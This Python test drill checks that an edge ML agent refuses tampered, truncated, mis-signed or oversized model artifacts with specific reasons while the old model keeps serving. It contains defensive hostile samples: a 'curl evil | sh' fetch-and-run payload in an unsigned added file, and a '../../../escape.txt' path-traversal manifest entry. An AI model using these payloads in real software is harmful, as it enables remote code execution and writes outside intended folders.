"""Row 7: bad artifacts are refused by a real agent, each with its specific reason, while the old
model keeps serving; good artifacts are not refused.

The stage: a mosquitto of the drill's own, the controller stand-in of the edge tests (a real
HTTP server with the agent's join endpoint and the artifact downloads, ``tests/edge/
controller_stub.py``) and one agent joined through it and run as ``edgefed edge run``. The drill
plays the controller's part on MQTT: it publishes each desired state (retained, as the
controller does) naming the next version, reads the agent's ``model.lifecycle`` telemetry for
what became of it, and sends an inference request to see which version answers.

Every bad artifact sits on the artifact server the way an attacker or a broken pipeline would
leave it; the desired state names it with the sha256 of the manifest *as served*, so the pin in
the desired state does not hide the checks behind it (a controller whose store was tampered
with after it recorded the pin is refused by the pin alone: ``hash-mismatch``).

Cases (the expected reason is the agent's ``RejectReason``, or for a refused load a phrase the
failure must name):

* ``truncated``: ``model.onnx`` cut to half its size after signing (``size-mismatch``);
* ``random_bytes``: ``model.onnx`` replaced by random bytes after signing (``hash-mismatch``);
* ``random_bytes_signed``: random bytes as ``model.onnx``, validly signed (ONNX Runtime refuses
  the graph at load);
* ``flipped_bit``: one bit of ``model.onnx`` flipped (``hash-mismatch``), and
  ``flipped_bit_manifest``: one bit of ``manifest.json`` (``bad-signature``);
* ``wrong_opset``: the graph stamped with opset 99, signed (refused at load, naming the opset);
* ``wrong_shape``: a signed manifest declaring an output shape the graph does not have (refused
  at load: the graph is not what the manifest describes);
* ``path_traversal``: a validly signed manifest listing ``../../../escape.txt``
  (``unsafe-path``; nothing may be written outside the download folder);
* ``oversized``: a validly signed artifact larger than the device's ``max_artifact_bytes``
  (``oversized``, before any byte of it is downloaded);
* ``untrusted_signer``: signed by a key the agent does not trust (``untrusted-signer``);
* ``extra_unsigned_file``: a file added and listed in ``manifest.json`` without signing again
  (``bad-signature``).

The good artifacts: v1, one after every bad one (full run only), and last one with a file
beside it on the server that its manifest does not list (it must load, and that file must never
reach the device: the agent fetches listed files only).
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from edgefed.common.artifact import (
    MANIFEST_NAME,
    SIGNATURE_NAME,
    SigningKey,
    generate_signing_key,
    sign_manifest,
    write_artifact,
)
from edgefed.common.broker import PrivateBroker
from edgefed.common.errors import EdgefedError
from edgefed.common.mqtt import Message, MqttClient
from edgefed.common.rpc import Requester
from edgefed.common.schemas import (
    DesiredModel,
    DesiredState,
    InferenceReply,
    InferenceRequest,
    Telemetry,
    TelemetryRecord,
    decode,
)
from edgefed.common.topics import Topics
from edgefed.edge.config import AgentConfig
from edgefed.edge.join import join
from tests.conftest import fast_settings
from tests.edge.controller_stub import ControllerStub, running_controller

from . import DrillResult, Figure

ROW = 7
INJECT = (
    "artifacts: truncated, random bytes, a flipped bit, wrong opset/shape, path traversal, "
    "oversized, untrusted signer, an extra unsigned file"
)
MUST_HOLD = "each refused with its specific reason; the old model keeps serving; good ones load"

MODEL = "tiny-embed"
TARGET = "x86-avx2"
ESCAPE_NAME = "escape.txt"
UNLISTED_NAME = "postinstall.sh"
WAIT_S = 60.0
"""Most seconds to wait for the agent's verdict on one artifact (a deadline, not a figure)."""


@dataclass(frozen=True)
class Kit:
    """What the cases build artifacts from."""

    source: Path
    """The tiny model's exported, unsigned files."""
    key: SigningKey
    """The key the agent trusts."""
    stranger: SigningKey
    """A key it does not."""
    device_limit: int
    """The agent's ``max_artifact_bytes``."""


Make = Callable[[Kit, Path, int], None]
"""Writes the artifact of version ``v`` into a folder of the artifact store."""


@dataclass(frozen=True)
class Case:
    name: str
    make: Make
    expect: str
    """The ``RejectReason`` value, or (for a refused load) a phrase the failure must name."""
    by_reason: bool = True


# --------------------------------------------------------------------------- building artifacts


def _copy_source(kit: Kit, dest: Path) -> None:
    shutil.copytree(kit.source, dest, ignore=shutil.ignore_patterns(MANIFEST_NAME, SIGNATURE_NAME))


def _sign(dest: Path, version: int, key: SigningKey, **declared: Any) -> None:
    from edgefed.cloud.compress.publish import graph_specs

    inputs, outputs, opset = graph_specs(dest / "model.onnx")
    fields: dict[str, Any] = {"inputs": inputs, "outputs": outputs, "opset": opset}
    fields.update(declared)
    write_artifact(
        dest,
        name=MODEL,
        version=version,
        task="feature-extraction",
        target=TARGET,
        signing_key=key,
        **fields,
    )


def good(kit: Kit, dest: Path, version: int) -> None:
    _copy_source(kit, dest)
    _sign(dest, version, kit.key)


def truncated(kit: Kit, dest: Path, version: int) -> None:
    good(kit, dest, version)
    model = dest / "model.onnx"
    data = model.read_bytes()
    model.write_bytes(data[: len(data) // 2])


def random_bytes(kit: Kit, dest: Path, version: int) -> None:
    good(kit, dest, version)
    model = dest / "model.onnx"
    model.write_bytes(os.urandom(model.stat().st_size))


def random_bytes_signed(kit: Kit, dest: Path, version: int) -> None:
    _copy_source(kit, dest)
    model = dest / "model.onnx"
    model.write_bytes(os.urandom(model.stat().st_size))
    write_artifact(  # no graph to describe: random bytes
        dest, name=MODEL, version=version, task="feature-extraction", target=TARGET,
        signing_key=kit.key,
    )  # fmt: skip


def _flip_bit(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x08
    path.write_bytes(bytes(data))


def flipped_bit(kit: Kit, dest: Path, version: int) -> None:
    good(kit, dest, version)
    model = dest / "model.onnx"
    _flip_bit(model, model.stat().st_size // 2)


def flipped_bit_manifest(kit: Kit, dest: Path, version: int) -> None:
    good(kit, dest, version)
    manifest = dest / MANIFEST_NAME
    text = manifest.read_bytes()
    _flip_bit(manifest, text.index(b'"feature-extraction"') + 1)  # still valid JSON


def wrong_opset(kit: Kit, dest: Path, version: int) -> None:
    import onnx

    _copy_source(kit, dest)
    graph = onnx.load(str(dest / "model.onnx"))
    for entry in graph.opset_import:
        if entry.domain in ("", "ai.onnx"):
            entry.version = 99
    onnx.save(graph, str(dest / "model.onnx"))
    _sign(dest, version, kit.key)


def wrong_shape(kit: Kit, dest: Path, version: int) -> None:
    from edgefed.cloud.compress.publish import graph_specs

    _copy_source(kit, dest)
    _, outputs, _ = graph_specs(dest / "model.onnx")
    widened = [
        o.model_copy(update={"shape": [*o.shape[:-1], int(o.shape[-1]) * 2]})
        if o.shape and isinstance(o.shape[-1], int)
        else o
        for o in outputs
    ]
    _sign(dest, version, kit.key, outputs=widened)


def _edit_manifest(dest: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    data = json.loads((dest / MANIFEST_NAME).read_bytes())
    edit(data)
    (dest / MANIFEST_NAME).write_text(json.dumps(data))


def path_traversal(kit: Kit, dest: Path, version: int) -> None:
    good(kit, dest, version)
    payload = b"written outside the download folder\n"
    entry = {
        "path": f"../../../{ESCAPE_NAME}",
        "size": len(payload),
        "sha256": hashlib.sha256(payload).hexdigest(),
    }
    _edit_manifest(dest, lambda data: data["files"].append(entry))
    sign_manifest(dest, kit.key)  # validly signed: the signer itself is the attacker here


def oversized(kit: Kit, dest: Path, version: int) -> None:
    _copy_source(kit, dest)
    (dest / "weights.bin").write_bytes(os.urandom(kit.device_limit + 1))
    _sign(dest, version, kit.key)


def untrusted_signer(kit: Kit, dest: Path, version: int) -> None:
    _copy_source(kit, dest)
    _sign(dest, version, kit.stranger)


def extra_unsigned_file(kit: Kit, dest: Path, version: int) -> None:
    good(kit, dest, version)
    payload = b"import os; os.system('curl evil | sh')\n"
    (dest / "postinstall.py").write_bytes(payload)
    entry = {
        "path": "postinstall.py",
        "size": len(payload),
        "sha256": hashlib.sha256(payload).hexdigest(),
    }
    _edit_manifest(dest, lambda data: data["files"].append(entry))  # the signature stays old


BAD: tuple[Case, ...] = (
    Case("truncated", truncated, "size-mismatch"),
    Case("random_bytes", random_bytes, "hash-mismatch"),
    Case("random_bytes_signed", random_bytes_signed, "ONNX Runtime refused", by_reason=False),
    Case("flipped_bit", flipped_bit, "hash-mismatch"),
    Case("flipped_bit_manifest", flipped_bit_manifest, "bad-signature"),
    Case("wrong_opset", wrong_opset, "opset", by_reason=False),
    Case("wrong_shape", wrong_shape, "the manifest declares", by_reason=False),
    Case("path_traversal", path_traversal, "unsafe-path"),
    Case("oversized", oversized, "oversized"),
    Case("untrusted_signer", untrusted_signer, "untrusted-signer"),
    Case("extra_unsigned_file", extra_unsigned_file, "bad-signature"),
)


def build_source(root: Path) -> Path:
    """The tiny embedding model (2 layers, hidden 32, MiniLM's tokenizer) exported to ONNX."""
    import torch
    from transformers import BertConfig, BertModel

    from edgefed.cloud.compress.export import export_onnx
    from tests.compress.tiny_hf import tokenizer

    tok = tokenizer()
    torch.manual_seed(0)
    model = BertModel(
        BertConfig(
            vocab_size=tok.vocab_size,
            hidden_size=32,
            num_hidden_layers=2,
            num_attention_heads=2,
            intermediate_size=64,
            max_position_embeddings=128,
        )
    ).eval()
    hf = root / "tiny-hf"
    model.save_pretrained(hf)
    tok.save_pretrained(hf)
    out = root / "tiny-onnx"
    export_onnx(hf, out, "feature-extraction")
    return out


# --------------------------------------------------------------------------- the stage


@dataclass
class Verdict:
    case: str
    step: str
    reason: str | None
    detail: str
    served_version: int | None
    """The version that answered a request right after the verdict."""


@dataclass
class Stage:
    stub: ControllerStub
    config: AgentConfig
    topics: Topics
    client: MqttClient
    requester: Requester
    records: asyncio.Queue[TelemetryRecord] = field(default_factory=asyncio.Queue)
    generation: int = 0

    def artifact_dir(self, version: int) -> Path:
        return self.stub.store / MODEL / f"v{version}" / TARGET

    async def offer(self, version: int) -> dict[str, Any]:
        """Name ``version`` in a new desired state; the agent's final lifecycle step for it."""
        directory = self.artifact_dir(version)
        digest = hashlib.sha256((directory / MANIFEST_NAME).read_bytes()).hexdigest()
        self.generation += 1
        state = DesiredState(
            agent_id=self.config.agent_id,
            generation=self.generation,
            models=[
                DesiredModel(
                    name=MODEL,
                    version=version,
                    artifact_url=self.stub.artifact_url(MODEL, version, TARGET),
                    manifest_sha256=digest,
                    providers=["CPUExecutionProvider"],
                )
            ],
        )
        await self.client.publish(
            self.topics.desired(self.config.agent_id), state.to_json(), retain=True
        )
        deadline = time.monotonic() + WAIT_S
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                raise AssertionError(f"no verdict on v{version} within {WAIT_S:g} s")
            record = await asyncio.wait_for(self.records.get(), left)
            fields = record.fields
            if record.name != "model.lifecycle" or fields.get("version") != version:
                continue
            if fields.get("step") in ("loaded", "rejected", "failed"):
                return dict(fields)

    async def served_version(self) -> int | None:
        try:
            reply = await self.requester.request(
                self.topics.agent_infer(self.config.agent_id),
                InferenceRequest(model=MODEL, texts=["is the old model still here"]),
                InferenceReply,
                timeout=10,
            )
        except EdgefedError:
            return None
        return reply.message.version


def _start_agent(state_dir: Path, log_path: Path) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("EDGEFED_")}
    env["EDGEFED_MQTT__BACKOFF_MAX_S"] = "0.5"
    env["EDGEFED_LOG_FORMAT"] = "plain"
    command = [sys.executable, "-m", "edgefed.cli", "edge", "run", "--state-dir", str(state_dir)]
    with log_path.open("ab") as log:
        return subprocess.Popen(command, env=env, stdout=log, stderr=subprocess.STDOUT)


def _stop(proc: subprocess.Popen[bytes]) -> None:
    if proc.poll() is not None:
        return
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(20)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(10)


def _escaped(root: Path, store: Path) -> list[Path]:
    """Files named like the traversal target anywhere under ``root`` but the artifact store."""
    return [p for p in root.rglob(ESCAPE_NAME) if store not in p.parents]


async def _drill(workdir: Path, broker: PrivateBroker, kit: Kit, full: bool) -> DrillResult:
    fleet = f"row7-{uuid.uuid4().hex[:8]}"
    stub = ControllerStub(
        store=workdir / "store",
        fleet=fleet,
        broker_url=broker.url,
        signing_keys=[kit.key.verify_key.to_base64()],
        join_tokens={"row7"},
    )
    verdicts: list[Verdict] = []
    good_verdicts: list[tuple[int, str]] = []
    with running_controller(stub):
        config = join(stub.url, "row7", workdir / "agent" / "state", labels={"site": "row7"})
        config = config.model_copy(
            update={
                "heartbeat_s": 0.5,
                "telemetry_s": 0.5,
                "metrics_port": None,
                "max_artifact_bytes": kit.device_limit,
                "local_endpoint": config.local_endpoint.model_copy(update={"enabled": False}),
            }
        )
        config.save()
        topics = Topics(fleet)
        settings = fast_settings(broker.url, fleet)
        async with MqttClient.from_settings(settings, client_id="row7-controller") as client:
            stage = Stage(stub, config, topics, client, Requester(client, topics))

            async def on_telemetry(message: Message) -> None:
                batch = decode(message.payload, message.content_type, Telemetry).message
                for record in batch.records:
                    await stage.records.put(record)

            await client.subscribe(topics.telemetry(config.agent_id), on_telemetry)
            proc = _start_agent(config.state_dir, workdir / "agent" / "agent.log")
            try:
                version = 1
                good(kit, stage.artifact_dir(version), version)
                first = await stage.offer(version)
                good_verdicts.append((version, str(first.get("step"))))
                serving = version if first.get("step") == "loaded" else None
                for case in BAD:
                    version += 1
                    case.make(kit, stage.artifact_dir(version), version)
                    fields = await stage.offer(version)
                    verdicts.append(
                        Verdict(
                            case.name,
                            str(fields.get("step")),
                            fields.get("reason"),
                            str(fields.get("detail") or ""),
                            await stage.served_version(),
                        )
                    )
                    if fields.get("step") == "loaded":
                        serving = version  # a bad artifact got in: what serves now
                    if full:  # a good artifact after every bad one
                        version += 1
                        good(kit, stage.artifact_dir(version), version)
                        after = await stage.offer(version)
                        good_verdicts.append((version, str(after.get("step"))))
                        if after.get("step") == "loaded":
                            serving = version
                # Last, a good artifact with a file beside it on the server that its manifest
                # does not list: loaded, and the file never reaches the device.
                version += 1
                good(kit, stage.artifact_dir(version), version)
                (stage.artifact_dir(version) / UNLISTED_NAME).write_bytes(b"#!/bin/sh\n")
                last = await stage.offer(version)
                good_verdicts.append((version, str(last.get("step"))))
                if last.get("step") == "loaded":
                    serving = version
                final_served = await stage.served_version()
            finally:
                _stop(proc)
    escaped = _escaped(workdir, stub.store) + list(config.state_dir.rglob(UNLISTED_NAME))
    return _result(verdicts, good_verdicts, serving, final_served, escaped)


def _matches(case: Case, verdict: Verdict) -> bool:
    if case.by_reason:
        return verdict.step == "rejected" and verdict.reason == case.expect
    return verdict.step in ("rejected", "failed") and case.expect in verdict.detail


def _result(
    verdicts: list[Verdict],
    good_verdicts: list[tuple[int, str]],
    serving: int | None,
    final_served: int | None,
    escaped: list[Path],
) -> DrillResult:
    cases = {case.name: case for case in BAD}
    refused = [v for v in verdicts if v.step in ("rejected", "failed")]
    specific = [v for v in refused if _matches(cases[v.case], v)]
    kept_serving = [v for v in verdicts if v.served_version is not None]
    false_rejects = [(v, step) for v, step in good_verdicts if step != "loaded"]
    # The old model keeps serving: after each refusal the version that answers is an older,
    # good one (never the refused one, never none).
    good_versions = {v for v, step in good_verdicts if step == "loaded"}
    old_kept = [
        v for v in refused if v.served_version is not None and v.served_version in good_versions
    ]
    figures: dict[str, Figure] = {
        "bad_artifacts": len(verdicts),
        "rejected_pct": round(100.0 * len(refused) / len(verdicts), 1) if verdicts else 0.0,
        "specific_reason_pct": round(100.0 * len(specific) / len(verdicts), 1) if verdicts else 0.0,
        "old_model_served_pct": round(100.0 * len(old_kept) / len(verdicts), 1)
        if verdicts
        else 0.0,
        "good_artifacts": len(good_verdicts),
        "false_rejects": len(false_rejects),
        "escaped_files": len(escaped),
    }
    notes = [
        f"{v.case}: {v.step}"
        + (f" ({v.reason})" if v.reason else "")
        + f", v{v.served_version} answered; {v.detail[:160]}"
        for v in verdicts
    ]
    notes.extend(f"good v{version}: {step}" for version, step in false_rejects)
    notes.extend(f"written outside the download folder or unlisted: {p}" for p in escaped)
    held = (
        bool(verdicts)
        and len(specific) == len(verdicts)
        and len(old_kept) == len(verdicts)
        and not false_rejects
        and not escaped
        and serving is not None
        and final_served == serving
        and len(kept_serving) == len(verdicts)
    )
    return DrillResult(ROW, figures, held, notes)


def run(workdir: Path, *, full: bool = False) -> DrillResult:
    workdir.mkdir(parents=True, exist_ok=True)
    source = build_source(workdir / "src")
    size = sum(p.stat().st_size for p in source.iterdir() if p.is_file())
    kit = Kit(source, generate_signing_key(), generate_signing_key(), device_limit=2 * size)
    with PrivateBroker(data_dir=workdir / "broker") as broker:
        return asyncio.run(_drill(workdir, broker, kit, full))
